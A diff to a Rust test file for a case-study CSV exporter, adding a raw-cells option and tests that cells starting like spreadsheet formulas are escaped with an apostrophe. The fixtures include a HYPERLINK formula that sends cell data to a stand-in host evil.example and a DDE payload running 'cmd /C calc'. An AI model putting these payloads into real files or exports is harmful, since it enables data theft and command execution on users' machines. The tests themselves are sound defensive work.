@@ -139,6 +139,7 @@ fn opts(format: Format) -> ExportOptions {
         include_note: false,
         force: false,
         output: None,
+        raw_cells: false,
     }
 }
 
@@ -763,7 +764,7 @@ fn export_for_ui_writes_pack_and_csv() {
     );
     assert_eq!(
         fs::read_to_string(&paths[1]).expect("csv"),
-        to_csv(&entries, false)
+        to_csv(&entries, false, false)
     );
 }
 
@@ -876,4 +877,82 @@ fn pack_groups_by_primary_category_in_taxonomy_order() {
         to_pack(&[], &tax),
         "# CCIN Case Studies Pack\n\nNo case studies to show.\n"
     );
+}
+
+// ---------------------------------------------------------------------------
+// Spreadsheet formulas
+// ---------------------------------------------------------------------------
+
+const FORMULA_TITLE: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+const FORMULA_LEAD: &str = "+cmd|' /C calc'!A0";
+
+/// A submission whose every free-text field starts like a spreadsheet
+/// formula, and a record with an unknown category exported with `--force`.
+fn formula_batch() -> tempfile::TempDir {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let front = format!(
+        "+++\ntitle = {FORMULA_TITLE:?}\nlead_member = {FORMULA_LEAD:?}\n\
+         participating_members = [\"-2+3\", \"@SUM(1+1)\"]\nstatus = \"=1+1\"\n+++\n"
+    );
+    let body = format!("{front}@SUM(A1:A9) is where the excerpt starts.\n");
+    write_case(
+        tmp.path(),
+        "formulas.md",
+        &body,
+        Some(
+            "decision = \"approve\"\nprimary_category = \"=cmd\"\ncategories = [\"-x\"]\n\
+             principles = [\"innovation\"]\nvalues = [\"solidarity\", \"democracy\", \"equity\"]\n\
+             note = \"=1+2\\nsecond line\"\nreviewer = \"@evil\"\nreviewed_at = \"-1\"\n",
+        ),
+    );
+    tmp
+}
+
+fn formula_export(raw_cells: bool) -> (Run, Vec<csv::StringRecord>) {
+    let tmp = formula_batch();
+    let mut o = opts(Format::Csv);
+    o.include_note = true;
+    o.force = true;
+    o.raw_cells = raw_cells;
+    let r = run(tmp.path(), &o);
+    assert_eq!(r.code, 0, "{}", r.err);
+    let rows = csv::Reader::from_reader(r.out.as_bytes())
+        .records()
+        .map(|r| r.expect("record"))
+        .collect();
+    (r, rows)
+}
+
+#[test]
+fn csv_cells_never_start_a_formula_by_default() {
+    let (r, rows) = formula_export(false);
+    assert_eq!(rows.len(), 1);
+    for cell in &rows[0] {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would run in a spreadsheet"
+        );
+    }
+    let row = &rows[0];
+    assert_eq!(&row[0], format!("'{FORMULA_TITLE}"));
+    assert_eq!(&row[1], format!("'{FORMULA_LEAD}"));
+    // Only a cell's start matters: the second member is joined after "; ".
+    assert_eq!(&row[2], "'-2+3; @SUM(1+1)");
+    assert_eq!(&row[4], "'=1+1");
+    assert_eq!(&row[7], "'=cmd");
+    assert_eq!(&row[13], "'=1+2\nsecond line");
+    assert_eq!(&row[14], "'@evil");
+    assert_eq!(&row[16], "'@SUM(A1:A9) is where the excerpt starts.");
+    assert_golden("export-formulas.csv", &r.out);
+}
+
+#[test]
+fn raw_cells_keep_the_exact_text() {
+    let (r, rows) = formula_export(true);
+    let row = &rows[0];
+    assert_eq!(&row[0], FORMULA_TITLE);
+    assert_eq!(&row[1], FORMULA_LEAD);
+    assert_eq!(&row[2], "-2+3; @SUM(1+1)");
+    assert_eq!(&row[13], "=1+2\nsecond line");
+    assert_golden("export-formulas-raw.csv", &r.out);
 }
